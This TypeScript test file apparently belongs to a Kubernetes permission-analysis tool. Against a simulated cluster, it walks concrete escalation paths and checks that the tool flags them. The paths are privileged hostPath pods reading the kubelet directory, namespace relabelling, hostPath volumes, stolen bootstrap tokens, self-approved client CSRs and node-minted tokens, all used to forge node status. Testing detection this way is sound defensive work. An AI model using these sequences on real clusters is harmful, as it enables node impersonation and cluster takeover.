// Pod spec powers and node identities, walked for real: node-a's reporter
// token creates pods where Pod Security admits what they need, and a node's
// own identity mints tokens for the pods bound to it. No container runs here
// (kwok is every node's kubelet), so reading the kubelet's credential from the
// host is stood for by node-b's real client certificate, signed by
// kube-controller-manager as a kubelet's is; everything before it (the
// apiserver admitting the pod, binding it to node-b, kwok running it) and
// after it (the writes) is the real apiserver's answer.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Cluster } from '../cluster/cluster.ts';
import { clientCSR } from '../cluster/endpoints.ts';
import { apiRequest, type ApiResponse } from '../cluster/requests.ts';
import { REPORTER, hardenedWithNodeAToken } from '../cluster/scenario.ts';
import { serviceAccountSubject } from '../cluster/rbac.ts';
import { cli } from './cli-runner.ts';
import {
  CAN_I,
  CSR_PATH,
  NAMESPACE,
  createCSR,
  baselineStatusWriter,
  TARGET,
  forgeStatus,
  outcome,
  poll,
  role,
  serviceAccount,
  uidOf,
  walkAttacks,
  type Attack,
  type VerifyReport,
} from './escalation-kit.ts';
import { CAPABILITY_TITLES } from '@kubectl-readiness/shared';

/** No Pod Security label: the apiserver's default level, privileged. */
const OPEN = 'pods-open';
/** Pod Security enforces baseline: no privileged pod, no hostPath. */
const BASELINE = 'pods-baseline';
/** Baseline as well, in its own namespace so relabelling it leaves the other attacks alone. */
const RELABEL = 'pods-relabel';
const NAMESPACES = `apiVersion: v1
kind: Namespace
metadata: {name: ${OPEN}}
---
apiVersion: v1
kind: Namespace
metadata: {name: ${BASELINE}, labels: {pod-security.kubernetes.io/enforce: baseline}}
---
apiVersion: v1
kind: Namespace
metadata: {name: ${RELABEL}, labels: {pod-security.kubernetes.io/enforce: baseline}}
`;

/** kube-controller-manager's serviceaccount controller fills a new namespace's default ServiceAccount; a pod needs it. */
async function namespacesReady(cluster: Cluster): Promise<void> {
  await cluster.kubectlOk(['apply', '-f', '-'], NAMESPACES);
  for (const namespace of [OPEN, BASELINE, RELABEL]) {
    const ready = await poll(30, async () =>
      (await cluster.kubectl(['-n', namespace, 'get', 'serviceaccount', 'default'])).code === 0 ? true : null,
    );
    assert.ok(ready, `no default ServiceAccount in ${namespace}`);
  }
}

/**
 * A node's kubelet client certificate, as its kubelet holds it on the host:
 * asked for and approved by the admin, signed by kube-controller-manager.
 */
async function nodeCertificate(cluster: Cluster, node: string): Promise<{ cert: string; key: string }> {
  const { csr, key } = await clientCSR(`system:node:${node}`, 'system:nodes');
  const name = `kubelet-${node}-${Date.now()}`;
  await cluster.kubectlOk(
    ['apply', '-f', '-'],
    JSON.stringify({
      apiVersion: 'certificates.k8s.io/v1',
      kind: 'CertificateSigningRequest',
      metadata: { name },
      spec: {
        request: Buffer.from(csr).toString('base64'),
        signerName: 'kubernetes.io/kube-apiserver-client-kubelet',
        usages: ['digital signature', 'client auth'],
      },
    }),
  );
  await cluster.kubectlOk(['certificate', 'approve', name]);
  const cert = await poll(30, async () => {
    const issued = (await cluster.kubectlOk(['get', 'csr', name, '-o', 'jsonpath={.status.certificate}'])).trim();
    return issued ? Buffer.from(issued, 'base64').toString() : null;
  });
  assert.ok(cert, `kube-controller-manager never signed ${node}'s certificate`);
  return { cert, key };
}

/**
 * A pod put on node-b by spec.nodeName that mounts the kubelet's directory
 * from the host: as a privileged pod's own hostPath volume, or through a
 * claim (then the pod itself asks for nothing Pod Security forbids).
 */
const kubeletMountingPod = (name: string, through: 'hostPath' | { claim: string }) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name },
  spec: {
    nodeName: TARGET,
    tolerations: [{ operator: 'Exists' }],
    containers: [
      {
        name: 'c',
        image: 'registry.k8s.io/pause:3.10',
        ...(through === 'hostPath' ? { securityContext: { privileged: true } } : {}),
        volumeMounts: [{ name: 'kubelet', mountPath: '/host/var/lib/kubelet' }],
      },
    ],
    volumes: [
      through === 'hostPath'
        ? { name: 'kubelet', hostPath: { path: '/var/lib/kubelet' } }
        : { name: 'kubelet', persistentVolumeClaim: { claimName: through.claim } },
    ],
  },
});

/** Whether kwok reports the pod Running on node-b within 30 s. */
async function runsOnNodeB(cluster: Cluster, namespace: string, name: string): Promise<boolean> {
  const running = await poll(30, async () => {
    const pod = (await apiRequest(cluster, { method: 'GET', path: `/api/v1/namespaces/${namespace}/pods/${name}` })).body as {
      spec?: { nodeName?: string };
      status?: { phase?: string };
    };
    return pod.status?.phase === 'Running' ? pod : null;
  });
  if (running) assert.equal(running.spec?.nodeName, TARGET);
  return running !== null;
}

let nodeB: { cert: string; key: string };

/**
 * Creates the hostPath pod in `namespace` with the reporter's token; once kwok
 * runs it on node-b, node-b's credential (the certificate, standing for the
 * file the pod reads) writes node-b's status. A refusal must be Pod Security's.
 */
async function privilegedPodAndForge(cluster: Cluster, token: string, namespace: string): Promise<ApiResponse> {
  const name = `host-${Date.now()}`;
  const created = await apiRequest(cluster, {
    method: 'POST',
    path: `/api/v1/namespaces/${namespace}/pods`,
    token,
    body: kubeletMountingPod(name, 'hostPath'),
  });
  if (created.status !== 201) {
    assert.match(created.message, /violates PodSecurity "baseline/, 'the twin must fail for Pod Security, not for another reason');
    return created;
  }
  try {
    if (!(await runsOnNodeB(cluster, namespace, name))) return outcome(false, 'the pod never ran');
    return await forgeStatus(cluster, '', undefined, nodeB);
  } finally {
    await cluster.kubectlOk(['-n', namespace, 'delete', 'pod', name, '--wait=false']);
  }
}

/**
 * A plain pod (baseline admits it) as `account`, on node-b; the token its
 * kubelet would project, bound to it and carrying node-b's name, then writes
 * node-b's status as node-b through associated-node impersonation.
 */
async function createPodAndForge(cluster: Cluster, token: string, namespace: string, account: string): Promise<ApiResponse> {
  const name = `attack-${Date.now()}`;
  const created = await apiRequest(cluster, {
    method: 'POST',
    path: `/api/v1/namespaces/${namespace}/pods`,
    token,
    body: {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name },
      spec: { serviceAccountName: account, nodeName: TARGET, containers: [{ name: 'c', image: 'registry.k8s.io/pause:3.10' }] },
    },
  });
  if (created.status !== 201) return created;
  const podToken = (
    await cluster.kubectlOk([
      '-n',
      namespace,
      'create',
      'token',
      account,
      '--bound-object-kind=Pod',
      `--bound-object-name=${name}`,
      `--bound-object-uid=${await uidOf(cluster, ['-n', namespace, 'get', 'pod', name])}`,
    ])
  ).trim();
  return forgeStatus(cluster, podToken, `system:node:${TARGET}`);
}

/**
 * Relabels the baseline namespace to privileged with the reporter's token,
 * then creates the hostPath pod there: Pod Security reads the label at the
 * pod's admission. The label is put back whatever happens.
 */
async function relabelAndPrivilegedPod(cluster: Cluster, token: string): Promise<ApiResponse> {
  const relabelled = await apiRequest(cluster, {
    method: 'PATCH',
    path: `/api/v1/namespaces/${RELABEL}`,
    token,
    body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } },
    contentType: 'application/merge-patch+json',
  });
  try {
    return relabelled.status === 200 ? await privilegedPodAndForge(cluster, token, RELABEL) : relabelled;
  } finally {
    await cluster.kubectlOk(['label', 'namespace', RELABEL, 'pod-security.kubernetes.io/enforce=baseline', '--overwrite']);
  }
}

const relabeller = (verbs: string) =>
  `${podCreator(RELABEL)}---
${role(`namespace-${verbs.replace(/\W+/g, '-')}`, `[{apiGroups: [""], resources: [namespaces], verbs: [${verbs}], resourceNames: [${RELABEL}]}]`)}`;

/**
 * A hostPath PersistentVolume pre-bound to a claim in the baseline namespace,
 * both created with the reporter's token; once kube-controller-manager binds
 * them, a plain pod there mounts the claim (Pod Security checks the pod's own
 * volumes, and a claim passes at every level) and kwok runs it on node-b,
 * whose credential then writes node-b's status. All three go again afterwards.
 */
async function hostPathVolumeAndForge(cluster: Cluster, token: string): Promise<ApiResponse> {
  const name = `host-${Date.now()}`;
  try {
    const volume = await apiRequest(cluster, {
      method: 'POST',
      path: '/api/v1/persistentvolumes',
      token,
      body: {
        apiVersion: 'v1',
        kind: 'PersistentVolume',
        metadata: { name },
        spec: {
          capacity: { storage: '1Gi' },
          accessModes: ['ReadWriteOnce'],
          storageClassName: '',
          hostPath: { path: '/var/lib/kubelet' },
          claimRef: { namespace: BASELINE, name },
        },
      },
    });
    if (volume.status !== 201) return volume;
    const claim = await apiRequest(cluster, {
      method: 'POST',
      path: `/api/v1/namespaces/${BASELINE}/persistentvolumeclaims`,
      token,
      body: {
        apiVersion: 'v1',
        kind: 'PersistentVolumeClaim',
        metadata: { name },
        spec: { accessModes: ['ReadWriteOnce'], storageClassName: '', volumeName: name, resources: { requests: { storage: '1Gi' } } },
      },
    });
    if (claim.status !== 201) return claim;
    const bound = await poll(60, async () => {
      const read = await apiRequest(cluster, { method: 'GET', path: `/api/v1/namespaces/${BASELINE}/persistentvolumeclaims/${name}` });
      return (read.body as { status?: { phase?: string } }).status?.phase === 'Bound' ? true : null;
    });
    if (!bound) return outcome(false, 'kube-controller-manager never bound the claim to the hostPath volume');
    const pod = await apiRequest(cluster, {
      method: 'POST',
      path: `/api/v1/namespaces/${BASELINE}/pods`,
      token,
      body: kubeletMountingPod(name, { claim: name }),
    });
    if (pod.status !== 201) return pod;
    if (!(await runsOnNodeB(cluster, BASELINE, name))) return outcome(false, 'the pod never ran');
    return await forgeStatus(cluster, '', undefined, nodeB);
  } finally {
    await cluster.kubectl(['-n', BASELINE, 'delete', 'pod,persistentvolumeclaim', name, '--ignore-not-found', '--wait=false']);
    await cluster.kubectl(['delete', 'persistentvolume', name, '--ignore-not-found', '--wait=false']);
  }
}

const volumeClaimer = (withVolumes: boolean) =>
  `${podCreator(BASELINE)}---\n${role(`claims-${BASELINE}`, '[{apiGroups: [""], resources: [persistentvolumeclaims], verbs: [create]}]', undefined, BASELINE)}${
    withVolumes ? `---\n${role('volume-creator', '[{apiGroups: [""], resources: [persistentvolumes], verbs: [create]}]')}` : ''
  }`;

/** A kubeadm cluster's join token, and kubeadm's bindings of its group: ask for a kubelet certificate, auto-approved for nodeclient. */
const BOOTSTRAP = { id: 'abcdef', secret: '0123456789abcdef', group: 'system:bootstrappers:kubeadm:default-node-token' };
const KUBEADM_BOOTSTRAP = `apiVersion: v1
kind: Secret
type: bootstrap.kubernetes.io/token
metadata: {name: bootstrap-token-${BOOTSTRAP.id}, namespace: kube-system}
stringData: {token-id: ${BOOTSTRAP.id}, token-secret: ${BOOTSTRAP.secret}, usage-bootstrap-authentication: "true", usage-bootstrap-signing: "true", auth-extra-groups: "${BOOTSTRAP.group}"}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: "kubeadm:kubelet-bootstrap"}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: "system:node-bootstrapper"}
subjects: [{kind: Group, name: "${BOOTSTRAP.group}", apiGroup: rbac.authorization.k8s.io}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: "kubeadm:node-autoapprove-bootstrap"}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: "system:certificates.k8s.io:certificatesigningrequests:nodeclient"}
subjects: [{kind: Group, name: "${BOOTSTRAP.group}", apiGroup: rbac.authorization.k8s.io}]
`;

/**
 * Reads kube-system's bootstrap token with the reporter's token, joins as a
 * kubelet would (a node-b client CSR, authenticated as system:bootstrap:<id>),
 * waits for kube-controller-manager to approve it for nodeclient and sign
 * it, then writes node-b's status with the certificate.
 */
async function bootstrapAndForge(cluster: Cluster, token: string): Promise<ApiResponse> {
  const read = await apiRequest(cluster, {
    method: 'GET',
    path: `/api/v1/namespaces/kube-system/secrets/bootstrap-token-${BOOTSTRAP.id}`,
    token,
  });
  if (read.status !== 200) return read;
  const data = (read.body as { data: Record<string, string> }).data;
  const decode = (key: string) => Buffer.from(data[key] ?? '', 'base64').toString();
  const joinToken = `${decode('token-id')}.${decode('token-secret')}`;
  const { csr, key } = await clientCSR(`system:node:${TARGET}`, 'system:nodes');
  const name = `join-${Date.now()}`;
  const created = await createCSR(cluster, joinToken, name, csr, 'kubernetes.io/kube-apiserver-client-kubelet');
  if (created.status !== 201) return created;
  assert.equal((created.body as { spec: { username: string } }).spec.username, `system:bootstrap:${BOOTSTRAP.id}`);
  const cert = await poll(30, async () => {
    const issued = (
      (await apiRequest(cluster, { method: 'GET', path: `${CSR_PATH}/${name}`, token: joinToken })).body as {
        status?: { certificate?: string };
      }
    ).status?.certificate;
    return issued ? Buffer.from(issued, 'base64').toString() : null;
  });
  if (!cert) return outcome(false, 'kube-controller-manager never signed the join request');
  // verify reached node-b through the bootstrap token, not only through legacy tokens kube-system might hold.
  const report = JSON.parse(cli(['verify', '-o', 'json', '--kubeconfig', cluster.kubeconfig]).stdout) as {
    reporters: { ledger: { identity: string; via: string[] }[] | null }[];
  };
  assert.ok(
    report.reporters[0]?.ledger?.some(
      (ledger) =>
        ledger.identity === 'a bootstrap token (system:bootstrappers)' && ledger.via[0]?.startsWith('read Secrets in kube-system:'),
    ),
    'verify does not reach the bootstrap token',
  );
  return forgeStatus(cluster, '', undefined, { cert, key });
}

/** A kube-apiserver-client CSR, created with `token`. */
const apiClientCSR = (cluster: Cluster, token: string, name: string, csr: string) =>
  createCSR(cluster, token, name, csr, 'kubernetes.io/kube-apiserver-client');

/**
 * node-b's user and group from the plain client signer: created and approved
 * with the reporter's token, signed by kube-controller-manager, then it writes
 * node-b's status as node-b. The same request for system:masters is refused
 * at create, whoever asks: why the search does not treat this signer as
 * cluster-admin.
 */
async function apiClientCertificateAndForge(cluster: Cluster, token: string): Promise<ApiResponse> {
  const masters = await apiClientCSR(cluster, token, `masters-${Date.now()}`, (await clientCSR('attacker', 'system:masters')).csr);
  assert.equal(masters.status, 403, masters.message);
  assert.match(masters.message, /use of kubernetes.io\/kube-apiserver-client signer with system:masters group is not allowed/);
  const { csr, key } = await clientCSR(`system:node:${TARGET}`, 'system:nodes');
  const name = `api-client-${Date.now()}`;
  const created = await apiClientCSR(cluster, token, name, csr);
  if (created.status !== 201) return created;
  const request = created.body as { status?: Record<string, unknown> };
  request.status = { conditions: [{ type: 'Approved', status: 'True', reason: 'Attack', message: 'approved from node-a' }] };
  const approved = await apiRequest(cluster, { method: 'PUT', path: `${CSR_PATH}/${name}/approval`, token, body: request });
  if (approved.status !== 200) return approved;
  const cert = await poll(30, async () => {
    const read = await apiRequest(cluster, { method: 'GET', path: `${CSR_PATH}/${name}`, token });
    const issued = (read.body as { status?: { certificate?: string } }).status?.certificate;
    return issued ? Buffer.from(issued, 'base64').toString() : null;
  });
  if (!cert) return outcome(false, 'kube-controller-manager never signed the kube-apiserver-client request');
  return forgeStatus(cluster, '', undefined, { cert, key });
}

const apiClientApprover = (name: string, approval: boolean) =>
  role(
    name,
    `[{apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]},${
      approval ? '\n  {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests/approval], verbs: [update]},' : ''
    }
  {apiGroups: [certificates.k8s.io], resources: [signers], verbs: [approve], resourceNames: [kubernetes.io/kube-apiserver-client]}]`,
  );

/** Baseline too, so only the ServiceAccount path is open: a Deployment runs as nobody, beside a ServiceAccount that writes node status. */
const ROLLOUT = 'rollout';
const ROLLOUT_OBJECTS = `${baselineStatusWriter(ROLLOUT)}---
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: ${ROLLOUT}}
spec:
  replicas: 1
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec: {tolerations: [{operator: Exists}], containers: [{name: c, image: registry.k8s.io/pause:3.10}]}
`;

/**
 * Rewrites the Deployment's template with the reporter's token (its pods now
 * run as status-writer, on node-b); kube-controller-manager's controllers
 * make the pod, kwok runs it, and its token, minted as its kubelet would,
 * writes node-b's status.
 */
async function rewriteTemplateAndForge(cluster: Cluster, token: string): Promise<ApiResponse> {
  const patched = await apiRequest(cluster, {
    method: 'PATCH',
    path: `/apis/apps/v1/namespaces/${ROLLOUT}/deployments/web`,
    token,
    body: { spec: { template: { spec: { serviceAccountName: 'status-writer', nodeName: TARGET } } } },
    contentType: 'application/merge-patch+json',
  });
  if (patched.status !== 200) return patched;
  const pod = await poll(60, async () => {
    const list = (await apiRequest(cluster, { method: 'GET', path: `/api/v1/namespaces/${ROLLOUT}/pods` })).body as {
      items?: {
        metadata: { name: string; uid: string };
        spec: { serviceAccountName?: string; nodeName?: string };
        status?: { phase?: string };
      }[];
    };
    return (
      list.items?.find(
        (item) => item.spec.serviceAccountName === 'status-writer' && item.spec.nodeName === TARGET && item.status?.phase === 'Running',
      ) ?? null
    );
  });
  if (!pod) return outcome(false, "the controllers never ran the rewritten template's pod on node-b");
  const podToken = (
    await cluster.kubectlOk([
      '-n',
      ROLLOUT,
      'create',
      'token',
      'status-writer',
      '--bound-object-kind=Pod',
      `--bound-object-name=${pod.metadata.name}`,
      `--bound-object-uid=${pod.metadata.uid}`,
    ])
  ).trim();
  return forgeStatus(cluster, podToken);
}

const secretReader = (namespace: string) =>
  role(`secret-reader-${namespace}`, '[{apiGroups: [""], resources: [secrets], verbs: [get, list]}]', undefined, namespace);

const podCreator = (namespace: string) =>
  role(`pod-creator-${namespace}`, '[{apiGroups: [""], resources: [pods], verbs: [create]}]', undefined, namespace);

const attacks: [Attack, Attack][] = [
  [
    {
      name: 'creating a pod on node-b as the reporter ServiceAccount',
      grants: podCreator(NAMESPACE),
      run: (cluster, token) => createPodAndForge(cluster, token, NAMESPACE, REPORTER.serviceAccount),
      capability: 'forge-other-node-conditions',
    },
    {
      // The same verb where baseline rules out node access and no ServiceAccount has power: the pod is admitted, its token writes nothing.
      name: 'creating pods only in a baseline namespace',
      grants: podCreator(BASELINE),
      run: (cluster, token) => createPodAndForge(cluster, token, BASELINE, 'default'),
      capability: 'forge-other-node-conditions',
    },
  ],
  [
    {
      name: "a privileged pod with a hostPath on node-b, in a namespace without a Pod Security label: node-b's identity",
      grants: podCreator(OPEN),
      run: (cluster, token) => privilegedPodAndForge(cluster, token, OPEN),
      capability: 'forge-other-node-conditions',
    },
    {
      name: 'the same pod in a namespace that enforces baseline',
      grants: podCreator(BASELINE),
      run: (cluster, token) => privilegedPodAndForge(cluster, token, BASELINE),
      capability: 'forge-other-node-conditions',
    },
  ],
  [
    {
      name: "relabelling a baseline namespace to privileged, then the hostPath pod there: node-b's identity",
      grants: relabeller('get, patch'),
      run: relabelAndPrivilegedPod,
      capability: 'forge-other-node-conditions',
    },
    {
      // One verb less: the label stays baseline, so Pod Security refuses the pod as in the baseline twin above.
      name: 'the same, with only get on that namespace',
      grants: relabeller('get'),
      run: relabelAndPrivilegedPod,
      capability: 'forge-other-node-conditions',
    },
  ],
  [
    {
      name: "a hostPath PersistentVolume claimed in a baseline namespace, mounted by a pod on node-b: node-b's identity",
      grants: volumeClaimer(true),
      run: hostPathVolumeAndForge,
      capability: 'forge-other-node-conditions',
    },
    {
      name: 'the same claim and pod, without create on persistentvolumes',
      grants: volumeClaimer(false),
      run: hostPathVolumeAndForge,
      capability: 'forge-other-node-conditions',
      unassessed: 'creating a PersistentVolumeClaim is walked by no class',
    },
  ],
  [
    {
      name: "reading Secrets in kube-system: a bootstrap token, joined as node-b with kubeadm's bindings",
      grants: secretReader('kube-system'),
      run: bootstrapAndForge,
      capability: 'forge-other-node-conditions',
    },
    {
      // The same verbs, in the namespace without the tokens: the bootstrap token authenticator reads only kube-system.
      name: 'reading Secrets only in default, with the same kubeadm bootstrap token in kube-system',
      grants: secretReader('default'),
      run: bootstrapAndForge,
      capability: 'forge-other-node-conditions',
    },
  ],
  [
    {
      name: "patching an existing Deployment's template: its pods run as a status writer on node-b",
      grants: role('rollout-patcher', '[{apiGroups: [apps], resources: [deployments], verbs: [get, patch]}]', undefined, ROLLOUT),
      run: rewriteTemplateAndForge,
      capability: 'forge-other-node-conditions',
    },
    {
      // Scaling keeps the template: the pods still run as nobody. Scaling a reporter's Deployment to zero stales its conditions, which no class walks.
      name: 'update and patch only on deployments/scale',
      grants: role(
        'rollout-scaler',
        '[{apiGroups: [apps], resources: [deployments/scale], verbs: [get, update, patch]}]',
        undefined,
        ROLLOUT,
      ),
      run: rewriteTemplateAndForge,
      capability: 'forge-other-node-conditions',
      unassessed: "scaling a reporter's Deployment or StatefulSet to zero stales its conditions",
    },
  ],
  [
    {
      name: "creating and approving a kube-apiserver-client CSR for node-b's user and group: node-b's certificate",
      grants: apiClientApprover('api-client-approver', true),
      run: apiClientCertificateAndForge,
      capability: 'forge-other-node-conditions',
    },
    {
      // One rule less: kube-controller-manager never approves this signer itself, so without the approval subresource nothing is signed.
      name: 'the same kube-apiserver-client CSR, without certificatesigningrequests/approval',
      grants: apiClientApprover('api-client-no-approval', false),
      run: apiClientCertificateAndForge,
      capability: 'forge-other-node-conditions',
    },
  ],
];

walkAttacks("pod spec powers, walked for real with node-a's reporter token", attacks, async (cluster) => {
  await namespacesReady(cluster);
  await cluster.kubectlOk(['apply', '-f', '-'], `${KUBEADM_BOOTSTRAP}---\n${ROLLOUT_OBJECTS}`);
  nodeB = await nodeCertificate(cluster, TARGET);
  return async () => {};
});

/** A ServiceAccount that may patch nodes (lift taints), with a pod on each of two nodes. */
const MINTED = 'node-minted';
const mintedOn = (node: string) => `apiVersion: v1
kind: Pod
metadata: {name: ${MINTED}-${node}, namespace: ${NAMESPACE}}
spec: {serviceAccountName: ${MINTED}, nodeName: ${node}, tolerations: [{operator: Exists}], containers: [{name: c, image: registry.k8s.io/pause:3.10}]}
`;

/** TokenRequest for MINTED bound to its pod on `podNode`, made with a node's client certificate. */
async function mintAsNode(cluster: Cluster, certificate: { cert: string; key: string }, podNode: string) {
  const pod = `${MINTED}-${podNode}`;
  const response = await apiRequest(cluster, {
    method: 'POST',
    path: `/api/v1/namespaces/${NAMESPACE}/serviceaccounts/${MINTED}/token`,
    clientCertificate: certificate,
    body: {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'TokenRequest',
      spec: {
        boundObjectRef: { apiVersion: 'v1', kind: 'Pod', name: pod, uid: await uidOf(cluster, ['-n', NAMESPACE, 'get', 'pod', pod]) },
        expirationSeconds: 600,
      },
    },
  });
  return { response, token: (response.body as { status?: { token?: string } }).status?.token ?? '' };
}

/** can-i's answer, as JSON, to whether node-a's reporter can lift readiness taints on node-b. */
const canILiftTaints = (cluster: Cluster) =>
  cli([
    'can-i',
    ...CAN_I['lift-readiness-taints'],
    '--reporter',
    `${NAMESPACE}/${REPORTER.serviceAccount}`,
    '--on-node',
    'node-a',
    '-o',
    'json',
    '--kubeconfig',
    cluster.kubeconfig,
  ]);

describe("a node's identity has moves: the Node authorizer, walked for real", () => {
  let cluster: Cluster;
  let nodeBCertificate: { cert: string; key: string };
  let nodeACertificate: { cert: string; key: string };
  before(async () => {
    ({ cluster } = await hardenedWithNodeAToken());
    await namespacesReady(cluster);
    await cluster.kubectlOk(
      ['apply', '-f', '-'],
      `${serviceAccount(MINTED)}---\n${role(`${MINTED}-nodes`, '[{apiGroups: [""], resources: [nodes], verbs: [get, patch]}]', serviceAccountSubject(NAMESPACE, MINTED))}---\n${mintedOn('node-a')}---\n${mintedOn(TARGET)}---\n${podCreator(OPEN)}`,
    );
    [nodeBCertificate, nodeACertificate] = await Promise.all([nodeCertificate(cluster, TARGET), nodeCertificate(cluster, 'node-a')]);
  });
  after(() => cluster?.stop());

  it("node-b's identity mints a token for the ServiceAccount of a pod bound to node-b: works", async () => {
    // The Node authorizer learns of a pod from its informer: give it a moment.
    const minted = await poll(10, async () => {
      const attempt = await mintAsNode(cluster, nodeBCertificate, TARGET);
      return attempt.response.status === 201 ? attempt : null;
    });
    assert.ok(minted, "node-b's certificate never got a token for its own pod's ServiceAccount");
    const lifted = await apiRequest(cluster, {
      method: 'PATCH',
      path: `/api/v1/nodes/${TARGET}`,
      token: minted.token,
      body: { spec: { taints: [] } },
      contentType: 'application/merge-patch+json',
    });
    assert.equal(lifted.status, 200, lifted.message);
    // verify and can-i saw it: a privileged pod in the open namespace is any node, and a node mints for its pods' accounts.
    const report = JSON.parse(cli(['verify', '-o', 'json', '--kubeconfig', cluster.kubeconfig]).stdout) as VerifyReport;
    assert.equal(report.reporters[0]?.posture, 'escalation');
    const titles = report.findings.filter((finding) => finding.id === 'escalation-path').map((finding) => finding.title);
    assert.ok(
      titles.some((title) => title.includes(CAPABILITY_TITLES['lift-readiness-taints'])),
      titles.join(' | '),
    );
    const canI = canILiftTaints(cluster);
    assert.equal(canI.code, 0, canI.stderr);
    assert.match(canI.stdout, /as the node its pod runs on, mint a token bound to that pod for/);
  });

  it('the same for a pod bound to node-a: denied', async () => {
    // node-a's own identity may: the authorizer knows the pod, so node-b's refusal is about whose node it is.
    const ownNode = await poll(10, async () => {
      const attempt = await mintAsNode(cluster, nodeACertificate, 'node-a');
      return attempt.response.status === 201 ? attempt : null;
    });
    assert.ok(ownNode, "node-a's certificate never got a token for its own pod's ServiceAccount");
    const denied = await mintAsNode(cluster, nodeBCertificate, 'node-a');
    assert.equal(denied.response.status, 403, denied.response.message);
    // Which is what the search says: a node's token for a ServiceAccount comes from a pod bound to that node.
    const canI = canILiftTaints(cluster);
    assert.match(canI.stdout, /the Node authorizer: a pod bound to that node runs as it|the Node authorizer, if any pod runs as it/);
  });
});
